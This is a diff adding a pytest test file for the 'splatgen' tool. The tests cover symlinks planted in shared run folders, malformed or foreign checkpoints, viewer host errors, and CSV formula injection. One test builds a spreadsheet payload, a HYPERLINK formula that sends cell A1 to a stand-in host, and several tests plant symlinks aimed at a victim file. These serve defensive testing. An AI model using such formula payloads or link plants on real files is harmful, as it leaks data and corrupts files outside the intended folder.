@@ -1,0 +1,215 @@
+"""Shared run and batch folders: a symbolic link planted in one never makes splatgen write, truncate or read
+outside it (the link is replaced or refused, its target unchanged), a malformed checkpoint is named in one line,
+and CSV cells cannot run as spreadsheet formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+
+import splatgen
+from splatgen.errors import RunDirError, RunInterrupted
+
+from test_runs import TINY, cli, gen
+
+VICTIM_TEXT = "precious data outside the run folder\n" * 50
+
+
+def victim(tmp_path: Path, name: str = "victim.txt") -> Path:
+    p = tmp_path / "elsewhere" / name
+    p.parent.mkdir(parents=True, exist_ok=True)
+    p.write_text(VICTIM_TEXT)
+    return p
+
+
+def interrupted_run(out: Path) -> Path:
+    """A run stopped by SIGTERM after step 6 of 12: ``out.partial`` with interrupted.pt and metrics.jsonl."""
+    from splatgen import trainer as trainer_mod
+
+    original = trainer_mod.Trainer.train_step
+
+    def stop_at_5(self, step):
+        if step == 5:
+            self.request_stop(signal.SIGTERM)
+        return original(self, step)
+
+    trainer_mod.Trainer.train_step = stop_at_5
+    try:
+        with pytest.raises(RunInterrupted):
+            gen(out)
+    finally:
+        trainer_mod.Trainer.train_step = original
+    staging = out.with_name(out.name + ".partial")
+    assert (staging / "checkpoints" / "interrupted.pt").is_file() and (staging / "metrics.jsonl").is_file()
+    return staging
+
+
+def plant(link: Path, target: Path) -> None:
+    if link.exists() or link.is_symlink():
+        link.unlink()
+    link.symlink_to(target)
+
+
+def test_lock_link_is_never_written_through_by_export_evaluate_or_resume(tmp_path):
+    out = tmp_path / "run"
+    staging = interrupted_run(out)
+    target = victim(tmp_path)
+    plant(staging / ".lock", target)
+    r = cli("export", str(out), str(tmp_path / "x.ply"), cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    r = cli("evaluate", str(out), cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    assert target.read_text() == VICTIM_TEXT
+    # the resume takes the folder over: the link is replaced by the run's own lock, its target untouched
+    res = gen(out, resume=True)
+    assert target.read_text() == VICTIM_TEXT
+    assert res.out_dir == out and (out / "splats.ply").is_file()
+
+
+def test_a_refused_resume_leaves_the_lock_links_target_alone(tmp_path):
+    out = tmp_path / "run"
+    staging = interrupted_run(out)
+    target = victim(tmp_path)
+    plant(staging / ".lock", target)
+    with pytest.raises(Exception):
+        gen(out, "run.steps=13", resume=True)  # another config: refused
+    assert target.read_text() == VICTIM_TEXT
+
+
+def test_metrics_log_link_is_replaced_not_appended_to(tmp_path):
+    out = tmp_path / "run"
+    staging = interrupted_run(out)
+    target = victim(tmp_path)
+    plant(staging / "metrics.jsonl", target)
+    gen(out, resume=True)
+    assert target.read_text() == VICTIM_TEXT
+    log = out / "metrics.jsonl"
+    assert not log.is_symlink() and "precious" not in log.read_text() and '"step": 12' in log.read_text()
+
+
+def test_owner_message_never_shows_a_linked_files_content(tmp_path):
+    from splatgen.rundir import _owner
+
+    folder = tmp_path / "f"
+    folder.mkdir()
+    secret = victim(tmp_path, "secret.txt")
+    plant(folder / ".lock", secret)
+    assert "precious" not in _owner(folder)
+
+
+def test_batch_manifest_and_records_lock_links_are_replaced(tmp_path):
+    import shutil
+
+    from splatgen.batch import run_batch
+
+    prompts = tmp_path / "p.txt"
+    prompts.write_text("a red mug\n")
+    out = tmp_path / "b"
+    assert run_batch(prompts, out, config=["world"], overrides=TINY)["done"] == 1
+    # Someone shares the batch folder with links in it, and the prompt is to be made again.
+    for run in [p for p in out.iterdir() if p.is_dir()]:
+        shutil.rmtree(run)
+    targets = {name: victim(tmp_path, f"{name}.txt") for name in ("manifest.jsonl", ".records.lock")}
+    for name, t in targets.items():
+        plant(out / name, t)
+    assert run_batch(prompts, out, config=["world"], overrides=TINY)["done"] == 1
+    for name, t in targets.items():
+        assert t.read_text() == VICTIM_TEXT, name
+        assert not (out / name).is_symlink()
+    assert '"status": "done"' in (out / "manifest.jsonl").read_text()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_summary_csv_cells_cannot_run_as_formulas(tmp_path, start):
+    from splatgen.batch import BatchItem, write_summary
+
+    prompt = f'{start}HYPERLINK("http://example.invalid/?"&A1,"a red mug")'
+    out = tmp_path / "b"
+    out.mkdir()
+    write_summary(out, [BatchItem(index=0, line=1, prompt=prompt, name="x", seed=0)], gallery=True)
+    rows = list(csv.reader(io.StringIO((out / "summary.csv").read_text())))
+    cell = rows[1][rows[0].index("prompt")]
+    assert cell == "'" + prompt  # read back: the prompt behind an apostrophe, so a spreadsheet shows it as text
+    assert "HYPERLINK" in (out / "index.html").read_text()  # the gallery escapes it (HTML) and shows it whole
+
+
+def test_spreadsheet_cell_leaves_numbers_and_plain_text():
+    from splatgen.fileio import spreadsheet_cell
+
+    assert spreadsheet_cell(-0.5) == -0.5 and spreadsheet_cell(None) is None
+    assert spreadsheet_cell("a red mug") == "a red mug" and spreadsheet_cell("\tx") == "'\tx"
+
+
+@pytest.mark.parametrize("host", ["203.0.113.9", "no-such-host.invalid"])
+def test_view_with_a_host_of_another_machine_is_one_line_at_once(tmp_path, host):
+    import time
+
+    out = tmp_path / "run"
+    gen(out)
+    t0 = time.monotonic()
+    r = cli("view", str(out), "--host", host, "--port", "0", cwd=tmp_path, timeout=60)
+    assert r.returncode == 2 and time.monotonic() - t0 < 30
+    err = [l for l in r.stderr.splitlines() if l.strip()]
+    assert err[-1].startswith("splatgen: error: cannot serve the viewer on") and "Traceback" not in r.stderr
+    assert "127.0.0.1" in err[-1]
+
+
+# ---- checkpoints that cannot be continued from ----------------------------------------------------------------
+@pytest.mark.parametrize("content, reason", [
+    ({"step": 5}, "it lacks kind"),
+    ([1, 2, 3], "it holds a list"),
+    ({"step": "five", "kind": "gaussians"}, "its step is 'five'"),
+    (b"", "is not a readable checkpoint"),
+    (b"PK\x03\x04 torn", "is not a readable checkpoint"),
+])
+def test_a_malformed_checkpoint_is_named_and_its_work_kept(tmp_path, content, reason):
+    out = tmp_path / "run"
+    staging = interrupted_run(out)
+    ck = staging / "checkpoints" / "interrupted.pt"
+    if isinstance(content, bytes):
+        ck.write_bytes(content)
+    else:
+        torch.save(content, ck)
+    for resume in (True, False):
+        with pytest.raises(RunDirError) as info:
+            gen(out, resume=resume)
+        msg = str(info.value)
+        assert "interrupted.pt" in msg and reason in msg and "--overwrite" in msg and "\n" not in msg
+        assert ck.exists() and (staging / "interrupted.ply").exists(), "the interrupted work is kept"
+    r = cli("generate", "a red mug", "--config", "world", "--out", str(out), "--resume", *TINY, cwd=tmp_path)
+    err = [l for l in r.stderr.splitlines() if l.startswith("splatgen: error")]
+    assert r.returncode == 2 and len(err) == 1 and "interrupted.pt" in err[0] and "Traceback" not in r.stderr
+    res = gen(out, overwrite=True)  # asked to start over: it does
+    assert (out / "splats.ply").is_file() and res.history[-1]["step"] == 12
+
+
+def test_a_checkpoint_of_another_prompt_is_not_resumed(tmp_path):
+    other = tmp_path / "chair"
+    from splatgen import trainer as trainer_mod
+
+    original = trainer_mod.Trainer.train_step
+
+    def stop_at_5(self, step):
+        if step == 5:
+            self.request_stop(signal.SIGTERM)
+        return original(self, step)
+
+    trainer_mod.Trainer.train_step = stop_at_5
+    try:
+        with pytest.raises(RunInterrupted):
+            splatgen.generate("a blue chair", config="world", out_dir=other, overrides=TINY)
+    finally:
+        trainer_mod.Trainer.train_step = original
+    out = tmp_path / "run"
+    staging = interrupted_run(out)
+    foreign = other.with_name("chair.partial") / "checkpoints" / "interrupted.pt"
+    (staging / "checkpoints" / "interrupted.pt").write_bytes(foreign.read_bytes())
+    with pytest.raises(RunDirError, match="saved by a run of 'a blue chair', not of 'a red mug'"):
+        gen(out, resume=True)
